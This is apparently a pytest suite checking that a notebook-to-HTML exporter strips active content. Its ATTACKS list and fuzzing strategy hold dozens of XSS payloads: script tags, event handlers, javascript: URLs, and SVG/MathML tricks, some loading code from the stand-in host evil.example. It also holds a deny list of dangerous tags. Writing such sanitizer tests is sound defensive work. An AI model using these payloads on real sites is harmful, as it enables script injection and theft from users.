"""The exported page, parsed again as a browser would: nothing that a notebook says may run or be fetched."""

from __future__ import annotations

import base64
import json
import re
from typing import TYPE_CHECKING, Any

import pytest
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nbformat import v4

from jupyter_mlops.errors import NotebookError
from jupyter_mlops.tracking.html import HTML_LIMIT, TEXT_LIMIT, clean_html, export_html, warm_up

if TYPE_CHECKING:
    from pathlib import Path

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 30).decode()

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=p><button formaction='javascript:alert(1)'>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y)}</style>",
    "<div style='background-image:url(https://evil.example/y)' onclick=alert(1)>x</div>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "</title><script>alert(1)</script>",
    "</pre></div></body><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video><audio src=https://evil.example/a onerror=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 \x1b[31m<script>alert(1)</script>",
    "\u202egpj.exe",
]  # fmt: skip
FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "form", "input", "button", "link", "base", "svg", "math", "noscript",
    "template", "video", "audio", "source", "applet", "frame", "frameset", "area", "map", "dialog", "textarea", "select",
}  # fmt: skip


def assert_harmless(html: str) -> BeautifulSoup:
    """Parsed by a browser's algorithm, it holds nothing that runs and nothing that is fetched."""
    soup = BeautifulSoup(html, "html5lib")
    for tag in soup.find_all(True):
        assert tag.name not in FORBIDDEN_TAGS, str(tag)[:300]
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            assert not name.lower().startswith("on"), str(tag)[:300]
            assert name not in ("srcdoc", "formaction", "action", "srcset", "background", "poster", "ping"), str(tag)[
                :300
            ]
            if name in ("src", "data"):
                assert text.startswith("data:image/"), str(tag)[:300]
            if "href" in name:
                assert re.match(r"(https?://|mailto:|#)", text.strip(), re.IGNORECASE), str(tag)[:300]
            if name == "style":
                assert "url(" not in text, str(tag)[:300]
                assert "expression" not in text, str(tag)[:300]
    metas = [meta["http-equiv"] for meta in soup.find_all("meta") if meta.has_attr("http-equiv")]
    assert metas in ([], ["Content-Security-Policy"])
    for style in soup.find_all("style"):
        without_comments = re.sub(r"/\*.*?\*/", "", style.text, flags=re.DOTALL)
        assert "evil" not in without_comments
        assert not re.search(r"@import|url\(\s*['\"]?(?!data:)", without_comments)
    return soup


def export(tmp_path: Path, nb: Any, *, title: str = "train") -> str:
    source = tmp_path / "executed.ipynb"
    source.write_text(nb if isinstance(nb, str) else json.dumps(nb))
    export_html(source, tmp_path / "executed.html", title=title)
    return (tmp_path / "executed.html").read_text()


def notebook(*cells: Any, **metadata: Any) -> Any:
    return v4.new_notebook(cells=list(cells), metadata=metadata)


def code(*outputs: Any, source: str = "1", **fields: Any) -> Any:
    return v4.new_code_cell(source, outputs=list(outputs), **fields)


def shown(media: str, value: Any, **metadata: Any) -> Any:
    return v4.new_output("display_data", {media: value}, metadata=metadata)


def test_no_attack_survives_wherever_it_stands(tmp_path: Path) -> None:
    cells = []
    for attack in ATTACKS:
        cells += [
            v4.new_markdown_cell(attack),
            v4.new_markdown_cell(f"# {attack}\n\n[x]({attack}) ![x]({attack}) $ {attack} $\n\n```{attack}\n{attack}\n```"),
            v4.new_raw_cell(attack, metadata={"raw_mimetype": "text/html"}),
            code(
                shown("text/html", attack), shown("text/markdown", attack), shown("text/plain", attack),
                shown("text/latex", attack), shown("image/svg+xml", attack), shown("image/png", attack),
                shown("application/javascript", attack), shown("text/vnd.mermaid", attack),
                v4.new_output("stream", name="stdout", text=attack),
                v4.new_output("stream", name="stderr", text=attack),
                v4.new_output("error", ename=attack, evalue=attack, traceback=[attack]),
                v4.new_output("execute_result", {"text/html": attack, "text/plain": attack}, execution_count=1),
                source=attack,
            ),
        ]  # fmt: skip
    soup = assert_harmless(export(tmp_path, notebook(*cells)))
    assert "<script>alert(1)</script>" in soup.text, "an attack in text is shown as text"


@pytest.mark.parametrize(
    "attack", ["</title><script>alert(1)</script>", "a\n<b> & \"c\" 'd' {{ 7 * 7 }}", "\x1b[31m", ""]
)
def test_a_title_is_only_text(tmp_path: Path, attack: str) -> None:
    soup = assert_harmless(export(tmp_path, notebook(title=attack), title=attack))
    assert soup.title is not None
    assert soup.title.text.strip() == (" ".join(attack.split()) or "Notebook")


def test_fields_of_wrong_types_are_not_shown(tmp_path: Path) -> None:
    attack = "1 onload=alert(1) x=<script>alert(1)</script>"
    nb = {
        "nbformat": 4, "nbformat_minor": 5,
        "metadata": {
            "title": attack, "language_info": {"name": attack, "pygments_lexer": attack},
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"x": attack}}}},
        },
        "cells": [
            {
                "cell_type": "code", "id": '"><script>alert(1)</script>', "source": ["x\n", "y"], "execution_count": 1,
                "metadata": {"tags": [attack, '"><script>alert(1)</script>'], "collapsed": attack},
                "outputs": [
                    {"output_type": "display_data", "data": {"image/png": PNG},
                     "metadata": {"image/png": {"width": attack, "height": 3}, "filenames": {"image/png": attack}}},
                    {"output_type": "display_data", "metadata": {},
                     "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "a"}, "text/plain": "widget!"}},
                    {"output_type": "display_data", "metadata": {}, "data": {"application/x-odd": {"a": 1}}},
                ],
            },
            {
                "cell_type": "markdown", "id": "b", "metadata": {}, "source": "![x](attachment:a.png)",
                "attachments": {"a.png": {"image/png": PNG, "text/html": attack}},
            },
        ],
    }  # fmt: skip
    soup = assert_harmless(export(tmp_path, nb))
    assert "widget!" in soup.text
    images = soup.find_all("img")
    assert [image["src"] for image in images] == [f"data:image/png;base64,{PNG}"] * 2
    assert images[0]["height"] == "3"
    assert not images[0].has_attr("width")


def test_what_a_notebook_normally_shows_is_there(tmp_path: Path) -> None:
    table = (
        "<div><style scoped>.dataframe tbody tr th{vertical-align:top}</style><table border='1' class='dataframe'>"
        "<thead><tr><th></th><th>loss</th></tr></thead><tbody><tr><th>0</th><td>0.5</td></tr></tbody></table></div>"
    )
    nb = notebook(
        v4.new_markdown_cell("# Churn\n\nA *paragraph* with [a link](https://example.org) and $x^2$\n\n| a | b |\n|-|-|\n| 1 | 2 |"),
        code(
            shown("image/png", PNG), shown("text/html", table),
            shown("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9'/></svg>"),
            v4.new_output("stream", name="stdout", text="\x1b[31mred\x1b[0m plain"),
            source="import pandas as pd\nprint('héllo')", execution_count=3,
        ),
        language_info={"name": "python"},
    )  # fmt: skip
    html = export(tmp_path, nb)
    soup = assert_harmless(html)
    assert soup.h1 is not None
    assert soup.h1.text == "Churn"
    assert [cell.text for cell in soup.select("table.dataframe thead th")] == ["", "loss"]
    assert soup.main is not None
    assert "vertical-align" not in soup.main.text
    assert "vertical-align:top" not in html
    assert [tag.text for tag in soup.select("table td")][:2] == ["1", "2"]
    assert soup.find("a", href="https://example.org") is not None
    assert f"data:image/png;base64,{PNG}" in html
    assert "data:image/svg+xml;base64," in html
    assert soup.select_one(".ansi-red-fg") is not None
    assert "print" in soup.text
    assert "héllo" in html
    assert "[3]" in soup.text
    assert soup.select_one(".highlight .kn, .highlight .nb") is not None, "code is coloured"
    assert "default-src 'none'" in soup.find("meta", {"http-equiv": True})["content"]


def test_a_local_file_that_the_notebook_names_is_not_read(tmp_path: Path) -> None:
    (tmp_path / "secret.png").write_bytes(b"my secret")
    html = export(tmp_path, notebook(v4.new_markdown_cell("![x](secret.png) ![y](/etc/hostname)")))
    assert base64.b64encode(b"my secret").decode() not in html
    assert_harmless(html)


def test_huge_outputs_are_bounded_and_say_so(tmp_path: Path) -> None:
    nb = notebook(
        code(v4.new_output("stream", name="stdout", text="a" * (TEXT_LIMIT + 10))),
        code(v4.new_output("display_data", {"text/html": "<b>" * HTML_LIMIT, "text/plain": "instead"})),
        code(v4.new_output("display_data", {"text/html": "<b>" * HTML_LIMIT})),
    )
    html = export(tmp_path, nb)
    assert "cut here" in html
    assert "instead" in html
    assert "too large for this page" in html
    assert len(html) < TEXT_LIMIT + 1_000_000


@pytest.mark.parametrize("content", ["", "no json", "[]", '{"cells": 3}', '{"nbformat": 4, "nbformat_minor": 5}'])
def test_what_is_no_notebook_is_refused_and_leaves_no_file(tmp_path: Path, content: str) -> None:
    with pytest.raises(NotebookError, match=r"executed\.ipynb cannot be shown"):
        export(tmp_path, content)
    assert [path.name for path in tmp_path.iterdir() if "html" in path.name] == []


def test_an_old_page_stays_when_the_new_one_cannot_be_made(tmp_path: Path) -> None:
    (tmp_path / "executed.html").write_text("old")
    with pytest.raises(NotebookError):
        export(tmp_path, "no json")
    assert (tmp_path / "executed.html").read_text() == "old"
    with pytest.raises(FileNotFoundError):
        export_html(tmp_path / "none.ipynb", tmp_path / "executed.html", title="t")


_pieces = st.lists(
    st.sampled_from(
        ["<", ">", "</", "/>", "script", "style", "svg", "math", "img", "p", "a", " ", "=", '"', "'", "`", "<!--", "-->",
         " onerror=alert(1)", " href=javascript:alert(1)", " src=//e.example", "<![CDATA[", "]]>", "&lt;", "&#60;", "\x00",
         "<p>", "<style>", "</style>", "<title>", "<textarea>", "<noscript>", "<table>", "<mtext>", "<foreignObject>", "x"]
    ),
    max_size=30,
).map("".join)  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_pieces)
def test_no_mixture_of_markup_survives_the_cleaning(source: str) -> None:
    assert_harmless(clean_html(source))


def test_pages_made_at_once_and_after_a_warm_up_are_those_made_alone(tmp_path: Path) -> None:
    from concurrent.futures import ThreadPoolExecutor

    sources = {"python": "print('one')  # def", "r": "x <- c(1, 2)"}
    for language, source in sources.items():
        nb = v4.new_notebook(cells=[v4.new_code_cell(source)], metadata={"language_info": {"name": language}})
        (tmp_path / f"{language}.ipynb").write_text(json.dumps(nb))

    def page(language: str, name: str) -> str:
        export_html(tmp_path / f"{language}.ipynb", tmp_path / name, title=f"in {language}")
        return (tmp_path / name).read_text()

    alone = {language: page(language, "alone.html") for language in sources}
    with ThreadPoolExecutor(5) as pool:
        pool.submit(warm_up)
        made = [(name, pool.submit(page, name, f"{name}-{turn}.html")) for turn in range(3) for name in sources]
    assert [found.result() for _, found in made] == [alone[name] for name, _ in made]
    assert "<title>in r</title>" in alone["r"]
    assert alone["python"] != alone["r"]
